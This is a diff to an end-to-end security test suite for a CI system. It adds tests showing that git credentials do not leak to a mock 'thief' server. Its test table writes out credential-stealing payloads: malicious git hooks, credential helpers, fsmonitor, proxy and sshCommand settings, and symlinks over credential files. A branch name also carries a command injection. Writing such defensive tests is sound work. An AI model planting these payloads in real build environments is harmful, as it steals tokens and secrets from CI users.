@@ -1,5 +1,6 @@
 import { randomBytes } from 'node:crypto';
-import { statSync } from 'node:fs';
+import { execFileSync } from 'node:child_process';
+import { readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
 import type { Socket } from 'node:net';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
@@ -7,9 +8,10 @@ import { Result } from '@millrace/domain';
 import { type Cluster, type ClusterPort, eventually, type FakeCommand, FakeWorker } from '@millrace/testing';
 import { TestRepository } from './git-repository.js';
 import { Api } from './resources.js';
+import { GitServer, Thief } from './security/git-server.js';
 import { brackets, send, sendFrames, silent, untilClosed } from './security/attacks.js';
 import { Bystander, withstands } from './security/standing.js';
-import { FIXTURES, type Stack, startStack } from './stacks.js';
+import { FIXTURES, millrace, type Stack, startStack } from './stacks.js';
 
 /**
  * Attacks on running processes, each an example of its kind: afterwards the processes are the same ones, as large as before, and others
@@ -18,19 +20,28 @@ import { FIXTURES, type Stack, startStack } from './stacks.js';
 describe('security', () => {
   const HOSTILE_PASSWORD = randomBytes(16).toString('hex');
   const TRIGGER_TOKEN = randomBytes(16).toString('hex');
+  const GIT_TOKEN = randomBytes(16).toString('hex');
   let stack: Stack;
   let cluster: Cluster;
   let bystander: Bystander;
   let api: Api;
   let repository: TestRepository;
+  let server: GitServer;
+  let thief: Thief;
 
   beforeAll(async () => {
     stack = await startStack('embedded');
     repository = new TestRepository(join(stack.folder, 'repository'));
     repository.commit('good');
+    execFileSync('git', ['clone', '--quiet', '--bare', repository.folder, join(stack.folder, 'served/private.git')]);
+    server = await new GitServer(join(stack.folder, 'served'), `ci:${GIT_TOKEN}`).listen();
+    thief = await new Thief().listen();
+    server.elsewhere = thief.url;
     cluster = await stack.start(join(FIXTURES, 'security.config.ts'), {
       E2E_REPOSITORY: repository.url,
       E2E_HOSTILE_PASSWORD: HOSTILE_PASSWORD,
+      E2E_GIT_SERVER: server.url,
+      E2E_GIT_TOKEN: GIT_TOKEN,
       MILLRACE_TRIGGER_TOKEN: TRIGGER_TOKEN,
       MILLRACE_WORKER_MAX: '20',
     });
@@ -41,6 +52,8 @@ describe('security', () => {
   afterAll(async () => {
     bystander?.stop();
     await cluster?.stop();
+    server?.stop();
+    thief?.stop();
     await stack?.stop();
   });
 
@@ -191,12 +204,14 @@ describe('security', () => {
     });
 
     it('locks no worker out by guessing under its name', async () => {
-      for (let i = 0; i < 12; i++) {
-        const guess = FakeWorker.connect({ url: workers(), name: 'late', password: `wrong ${i}` });
-        await expect(guess).rejects.toThrow(/401|429/);
-      }
+      const guesses = Array.from({ length: 12 }, (_, i) =>
+        expect(FakeWorker.connect({ url: workers(), name: 'late', password: `wrong ${i}` })).rejects.toThrow(
+          /401|429|503/,
+        ),
+      );
       const late = await FakeWorker.connect({ url: workers(), name: 'late', password: HOSTILE_PASSWORD });
       await late.disconnect();
+      await Promise.all(guesses);
     }, 120_000);
   });
 
@@ -316,6 +331,100 @@ describe('security', () => {
     });
   });
 
+  describe('the credentials of a repository', () => {
+    const ended = async (requestId: number): Promise<number> => {
+      await eventually(async () => (await api.request(requestId)).complete, {
+        timeoutMs: 40_000,
+        what: 'the end of the build',
+      });
+      return (await api.request(requestId)).results;
+    };
+
+    it('are sent where they are for, and nowhere else', async () => {
+      expect(await ended(await triggered('private'))).toBe(Result.SUCCESS);
+      expect(
+        await ended(await triggered('anywhere', { sourceStamp: { repository: `${server.url}/private.git` } })),
+      ).toBe(Result.SUCCESS);
+      for (const repositoryOf of [
+        `${thief.url}/x.git`,
+        `${server.url}/elsewhere/x.git`,
+        `${server.url}@127.0.0.1:1/x.git`,
+      ]) {
+        const requestId = await triggered('anywhere', { sourceStamp: { repository: repositoryOf } }).catch(() => null);
+        if (requestId !== null) expect(await ended(requestId)).toBeGreaterThanOrEqual(Result.FAILURE);
+      }
+      expect(thief.loot.join('\n')).not.toMatch(/"authorization"/i);
+      expect(thief.loot.join('\n')).not.toContain(GIT_TOKEN);
+    }, 180_000);
+
+    it.each<[string, (loot: string, url: string) => string]>([
+      [
+        'hooks',
+        (loot) =>
+          `for h in post-checkout reference-transaction pre-auto-gc post-merge post-index-change; do printf '#!/bin/sh\nenv >> ${loot}; cat $(dirname $GIT_DIR)/../.millrace* >> ${loot} 2>/dev/null\n' > .git/hooks/$h; chmod +x .git/hooks/$h; done`,
+      ],
+      [
+        'a helper for credentials',
+        (loot) => `git config credential.helper '!f() { cat >> ${loot}; env >> ${loot}; }; f'`,
+      ],
+      ['another address for the same repository', (_loot, url) => `git config url.${url}/.insteadOf http://127.0.0.1:`],
+      ['a proxy', (_loot, url) => `git config http.proxy ${url}`],
+      [
+        'a monitor of files',
+        (loot) =>
+          `printf '#!/bin/sh\nenv >> ${loot}\n' > /tmp/monitor.$$; chmod +x /tmp/monitor.$$; git config core.fsmonitor /tmp/monitor.$$`,
+      ],
+      [
+        'a program for ssh and an editor',
+        (loot) => `git config core.sshCommand 'env >> ${loot};'; git config core.askPass 'sh -c "env >> ${loot}"'`,
+      ],
+      [
+        'links where files of ours were',
+        (loot) =>
+          `for f in .git-credentials .millrace-git .millrace-credentials; do ln -sfn ${loot} ../$f; ln -sfn ${loot} $f; done`,
+      ],
+      [
+        'a configuration that includes another',
+        (loot) =>
+          `printf '[credential]\nhelper = "!f() { cat >> ${loot}; }; f"\n' > ../evil; git config include.path ../../evil`,
+      ],
+    ])(
+      'are not stolen by %s that an earlier build has left',
+      async (_what, plant) => {
+        const loot = join(stack.folder, `loot-${randomBytes(4).toString('hex')}`);
+        writeFileSync(loot, '');
+        expect(await ended(await triggered('private', { properties: { script: plant(loot, thief.url) } }))).toBe(
+          Result.SUCCESS,
+        );
+        expect(await ended(await triggered('private'))).toBe(Result.SUCCESS);
+        expect(readFileSync(loot, 'utf8')).not.toContain(GIT_TOKEN);
+        expect(thief.loot.join('\n')).not.toContain(GIT_TOKEN);
+        expect(thief.loot.join('\n')).not.toMatch(/"(proxy-)?authorization"/i);
+      },
+      120_000,
+    );
+
+    it('are refused inside an address, with the way to do it right', () => {
+      const file = join(stack.folder, 'leaky.config.ts');
+      writeFileSync(
+        file,
+        `import { builder, defineConfig, gitPoller, worker } from '@millrace/config';
+         import { git } from '@millrace/steps';
+         export default defineConfig({
+           workers: [worker('w')],
+           changeSources: [gitPoller({ repository: 'http://ci:${GIT_TOKEN}@127.0.0.1/a.git' })],
+           builders: [builder('b', { workers: ['w'], factory: [git({ repository: 'https://127.0.0.1/a.git?private_token=${GIT_TOKEN}' })] })],
+         });`,
+      );
+      const { status, stdout, stderr } = millrace(['check-config', file]);
+      expect(status).toBe(1);
+      expect(stderr).toMatch(/changeSources\[0\]\.repository/);
+      expect(stderr).toMatch(/factory\[0\]/);
+      expect(stderr).toMatch(/credentials/);
+      expect(stdout + stderr).not.toContain(GIT_TOKEN);
+    });
+  });
+
   it('runs no part of a branch name as a command', async () => {
     const buildId = await succeeds('greet', { sourceStamp: { branch: `x;id;$(id)'"\`id\`` } });
     const log = (await api.log(buildId, 'greet')).join('\n');
@@ -332,10 +441,53 @@ describe('security', () => {
       'MILLRACE_BUS_TICKET',
       'MILLRACE_TRIGGER_TOKEN',
       'PASSWORD',
+      'E2E_GIT_TOKEN',
       HOSTILE_PASSWORD,
       TRIGGER_TOKEN,
+      GIT_TOKEN,
     ])
       expect(log).not.toContain(name);
+  });
+
+  it('shows its secrets nowhere', async () => {
+    const secrets = [GIT_TOKEN, TRIGGER_TOKEN, HOSTILE_PASSWORD];
+    const texts = new Map<string, string>([['what the processes have printed', cluster.output.join('\n')]]);
+    const { builds } = await cluster.api<{ builds: { buildid: number }[] }>('/builds?limit=200&property=*');
+    for (const path of [
+      'changes',
+      'changesources',
+      'sourcestamps',
+      'builds?property=*',
+      'buildsets',
+      'workers',
+      'schedulers',
+      'forceschedulers',
+      'masters',
+    ])
+      texts.set(path, JSON.stringify(await cluster.api(`/${path}`)));
+    for (const { buildid } of builds) {
+      const { steps } = await cluster.api<{ steps: { stepid: number }[] }>(`/builds/${buildid}/steps`);
+      texts.set(`steps of build ${buildid}`, JSON.stringify(steps));
+      for (const { stepid } of steps) {
+        const { logs } = await cluster.api<{ logs: { logid: number }[] }>(`/steps/${stepid}/logs`);
+        for (const { logid } of logs)
+          texts.set(`log ${logid}`, await (await fetch(at('ui', `/api/v2/logs/${logid}/raw`))).text());
+      }
+    }
+    for (const name of readdirSync(stack.folder).filter((entry) => entry.startsWith('millrace.sqlite')))
+      texts.set(name, readFileSync(join(stack.folder, name), 'latin1'));
+    for (const pid of readdirSync('/proc').filter((entry) => /^\d+$/.test(entry))) {
+      try {
+        texts.set(`arguments of ${pid}`, readFileSync(`/proc/${pid}/cmdline`, 'latin1'));
+      } catch {
+        continue; // It ended while we looked.
+      }
+    }
+    for (const pid of [...cluster.pids('worker'), ...cluster.pids('runner')])
+      texts.set(`environment of ${pid}`, readFileSync(`/proc/${pid}/environ`, 'latin1'));
+    expect(texts.size).toBeGreaterThan(30);
+    for (const [where, text] of texts)
+      for (const secret of secrets) if (text.includes(secret)) throw new Error(`a secret is in ${where}`);
   });
 
   it('keeps its data to its user', () => {
